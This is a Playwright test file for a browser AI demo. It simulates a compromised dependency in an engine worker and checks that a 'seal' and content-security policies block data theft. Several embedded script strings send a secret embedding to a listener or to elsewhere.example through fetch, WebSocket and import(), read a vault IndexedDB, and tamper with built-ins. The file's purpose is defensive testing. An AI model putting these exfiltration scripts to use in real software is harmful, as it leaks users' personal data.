/**
 * A compromised dependency: script that runs in the engine worker while it is still open, keeps what it can, and uses it when the
 * personal data is there. And policies that look like a seal and are none.
 */
import { expect, type Page, test, type Worker } from '@playwright/test';
import { workerPolicy } from '../src/worker/content-policy.ts';
import {
  type Listener,
  startListener,
  startTamperedSite,
  type TamperedSite,
  type Tampering,
} from './tampered-site.ts';

const SECRET = 'the-secret-embedding';
// Every host may be asked, so that only the gate is in the way.
const LOOSE_CONNECT = "default-src 'none'; script-src 'wasm-unsafe-eval'; connect-src *";

let site: TamperedSite;
let listener: Listener;
test.use({ serviceWorkers: 'block' });
test.beforeAll(async () => {
  site = await startTamperedSite();
  listener = await startListener();
});
test.afterAll(async () => {
  await site[Symbol.asyncDispose]();
  await listener[Symbol.asyncDispose]();
});
test.beforeEach(() => {
  listener.heard.length = 0;
});

/** The demo with a worker tampered with, sealed and ready. */
async function open(page: Page, tampering: Tampering): Promise<Worker> {
  site.tampering = tampering;
  await page.goto(`${site.url}/?device=wasm&maxTokens=8`);
  await expect(page.getByTestId('privacy')).toBeVisible();
  return page.workers().find((worker) => !worker.url().includes('#'))!;
}

const attacks = (worker: Worker) =>
  worker.evaluate(
    async ([url, secret]) => {
      const { kept } = globalThis as unknown as { kept: Record<string, never> };
      const outcome: Record<string, string> = {};
      const attempt = async (name: string, work: () => unknown) => {
        try {
          await work();
          outcome[name] = 'OUT';
        } catch (error) {
          outcome[name] = String((error as { code?: string }).code ?? error);
        }
      };
      const call = (f: unknown, self: unknown, ...args: unknown[]) =>
        Reflect.apply(f as () => unknown, self, args);
      const make = (f: unknown, ...args: unknown[]) => Reflect.construct(f as new () => unknown, args as []);
      await attempt('fetch', () => call(kept.fetch, globalThis, `${url}/fetch?${secret}`));
      for (const name of [
        'WebSocket',
        'EventSource',
        'XMLHttpRequest',
        'Worker',
        'FontFace',
        'BroadcastChannel',
      ]) {
        await attempt(name, () => make(kept[name], `${url}/${name}?${secret}`));
      }
      await attempt('an open channel', () => call(kept.post, kept.channel, secret));
      await attempt('getDirectory', () => call(kept.getDirectory, kept.storage));
      await attempt('indexedDB', () => call(kept.openDatabase, kept.indexedDB, secret));
      await attempt('an open database', () => call(kept.transaction, kept.database, 'store', 'readwrite'));
      await attempt('an open file', () => call(kept.writeFile, kept.file, secret));
      // Cutting it left nothing on the disk that could be closed and so kept.
      await attempt('closing an open file', () => call(kept.closeFile, kept.file));
      await attempt('a request under way', () => kept.slow);
      return outcome;
    },
    [listener.url, SECRET] as const,
  );

/** What such script would keep; it also spoils what the seal might use. */
const keepEverything = (url: string) => `
  const { fetch, WebSocket, EventSource, XMLHttpRequest, Worker, FontFace, BroadcastChannel, indexedDB } = globalThis;
  const { storage } = navigator;
  globalThis.kept = { fetch, WebSocket, EventSource, XMLHttpRequest, Worker, FontFace, BroadcastChannel, indexedDB, storage };
  kept.getDirectory = StorageManager.prototype.getDirectory;
  kept.openDatabase = IDBFactory.prototype.open;
  kept.transaction = IDBDatabase.prototype.transaction;
  kept.channel = new BroadcastChannel('e2p-weights loot');
  kept.post = BroadcastChannel.prototype.postMessage;
  kept.post.call(kept.channel, 'before the seal');
  fetch('${url}/before-the-seal');
  kept.slow = fetch('${url}/slow').then((response) => response.text());
  kept.slow.catch(() => undefined);
  kept.refused = [];
  const refuse = (name, work) => { try { work(); kept.refused.push(name + ' OPEN'); } catch (error) { kept.refused.push(name + ' ' + error.code); } };
  refuse('WebSocket', () => { kept.socket = new WebSocket('${url.replace('http', 'ws')}/socket'); });
  refuse('EventSource', () => new EventSource('${url}/events'));
  fetch('${url}/post', { method: 'POST', body: 'x' }).catch((error) => kept.refused.push('POST ' + error.code));
  const request = indexedDB.open('e2p-weights loot', 1);
  request.onupgradeneeded = () => request.result.createObjectStore('store');
  request.onsuccess = () => { kept.database = request.result; };
  storage.getDirectory().then((root) => root.getFileHandle('loot', { create: true })).then((file) => file.createWritable())
    .then((file) => {
      kept.file = file;
      kept.writeFile = file.write;
      kept.closeFile = file.close;
      refuse('getWriter', () => file.getWriter());
      refuse('pipeTo', () => new ReadableStream().pipeTo(file));
    });
  Array.prototype.push = new Proxy(Array.prototype.push, {});
  Reflect.defineProperty = () => true;
  Reflect.apply = new Proxy(Reflect.apply, {});
  AbortController.prototype.abort = () => {};
`;

test('what was kept from before the seal is shut, and what was open is cut', async ({ page, context }) => {
  const worker = await open(page, {
    script: keepEverything(listener.url),
    headers: { 'content-security-policy': LOOSE_CONNECT },
  });
  // While it was open, a bare request went out, so the listener listens; nothing else did.
  expect(listener.heard.toSorted()).toEqual(['GET /before-the-seal', 'GET /slow']);
  expect(
    await worker.evaluate(() =>
      (globalThis as unknown as { kept: { refused: string[] } }).kept.refused.toSorted(),
    ),
  ).toEqual(['EventSource sealed', 'POST sealed', 'WebSocket sealed', 'getWriter sealed', 'pipeTo sealed']);
  listener.heard.length = 0;
  const other = await context.newPage();
  await other.goto(`${site.url}/world/demo.json`);
  await other.evaluate(() => {
    const said: unknown[] = [];
    Object.assign(globalThis, { said });
    new BroadcastChannel('e2p-weights loot').onmessage = ({ data }) => said.push(data);
  });
  const outcome = await attacks(worker);
  const { 'closing an open file': file, ...others } = outcome;
  expect(Object.entries(others).filter(([, result]) => result !== 'sealed')).toEqual([]);
  expect(Object.keys(others)).toHaveLength(13);
  expect(file).toMatch(/TypeError/);
  await page.waitForTimeout(1000);
  expect(listener.heard).toEqual([]);
  expect(await other.evaluate(() => (globalThis as unknown as { said: unknown[] }).said)).toEqual([]);
  // And the worker still works.
  await page.getByTestId('write').click();
  await expect(page.getByTestId('stats-personal')).toHaveText(/\d+ tokens/);
});

test('while it is open, script in the worker reaches no database but that of the weights: not the vault', async ({
  page,
}) => {
  // Same origin, so the vault's database and its key are within reach of any script here, if nothing is in the way.
  await page.goto(`${site.url}/world/demo.json`);
  await page.evaluate(
    (secret) =>
      new Promise<void>((resolve) => {
        const request = indexedDB.open('e2p-vault-default', 1);
        request.onupgradeneeded = () => request.result.createObjectStore('records').put(secret, 'embedding');
        request.onsuccess = () => {
          request.result.close();
          resolve();
        };
      }),
    SECRET,
  );
  const worker = await open(page, {
    script: `
      fetch('${listener.url}/it-runs');
      kept = { refused: [] };
      for (const [name, work] of Object.entries({
        open: () => {
          const request = indexedDB.open('e2p-vault-default');
          request.onsuccess = () => {
            const get = request.result.transaction('records').objectStore('records').get('embedding');
            get.onsuccess = () => fetch('${listener.url}/vault?' + get.result);
          };
        },
        databases: () => indexedDB.databases(),
        deleteDatabase: () => indexedDB.deleteDatabase('e2p-vault-default'),
        channel: () => new BroadcastChannel('e2p-vault-default'),
        cache: () => caches.open('e2p-demo'),
        caches: () => caches.match('/'),
      })) {
        try { work(); kept.refused.push(name + ' OPEN'); } catch (error) { kept.refused.push(name + ' ' + error.code); }
      }`.replace('kept =', 'const kept = globalThis.kept ='),
    headers: { 'content-security-policy': LOOSE_CONNECT },
  });
  const refused = await worker.evaluate(
    () => (globalThis as unknown as { kept: { refused: string[] } }).kept.refused,
  );
  await page.waitForTimeout(500);
  expect(listener.heard).toEqual(['GET /it-runs']);
  expect(refused).toEqual(
    ['open', 'databases', 'deleteDatabase', 'channel', 'cache', 'caches'].map((name) => `${name} sealed`),
  );
});

const shown = (page: Page) => page.getByTestId('privacy');

test('a strict policy that only reports is not taken for a seal', async ({ page }) => {
  const worker = await open(page, {
    headers: {
      'content-security-policy': "script-src 'self' 'wasm-unsafe-eval'; connect-src 'self'",
      'content-security-policy-report-only': workerPolicy(),
    },
  });
  await expect(shown(page)).toContainText('import() is open');
  expect(
    await worker.evaluate(() =>
      import(/* @vite-ignore */ `${location.origin}/sw.js`).then(() => 'OUT', String),
    ),
  ).toMatch(/OUT|self is not|clients|skipWaiting/);
});

test('a policy with reports says so: what it refuses is sent to their address', async ({ page }) => {
  const refused = (worker: Worker) =>
    worker.evaluate(
      (secret) => import(/* @vite-ignore */ `https://elsewhere.example/?${secret}`).catch(() => undefined),
      SECRET,
    );
  await refused(await open(page, { headers: { 'content-security-policy': workerPolicy() } }));
  await page.waitForTimeout(500);
  await expect(shown(page)).toContainText('none is open');
  expect(listener.heard).toEqual([]);
  const reporting = `${workerPolicy()}; report-uri ${listener.url}/report`;
  const worker = await open(page, { headers: { 'content-security-policy': reporting } });
  await expect(shown(page)).toContainText('reports of the policy is open');
  await refused(worker);
  await expect.poll(() => listener.heard.join()).toContain(SECRET);
});

test('helper threads in a worker of one file come up, behind a gate and a policy of their own', async ({
  page,
}) => {
  // They sleep between their work and can't be asked, so what is tried stands in their script.
  const worker = await open(page, {
    script: `
      try { fetch('${listener.url}/' + name).catch(() => undefined); } catch {}
      if (name.startsWith('em-pthread')) {
        for (const exit of [() => new WebSocket('${listener.url.replace('http', 'ws')}/socket'), () => new EventSource('${listener.url}/events')]) {
          try { exit(); } catch {}
        }
        import('${listener.url}/module').catch(() => undefined);
      }
      // More cores than this machine may have.
      Object.defineProperty(navigator, 'hardwareConcurrency', { get: () => 4 });`,
    headers: { 'content-security-policy': workerPolicy({ threads: true, modelHosts: [listener.url] }) },
  });
  await expect(shown(page)).toContainText('none is open');
  expect(page.workers().filter((helper) => helper !== worker)).toHaveLength(1);
  await page.getByTestId('write').click();
  await expect(page.getByTestId('stats-personal')).toHaveText(/\d+ tokens/);
  expect(listener.heard).toEqual(['GET /e2p-engine']);
});
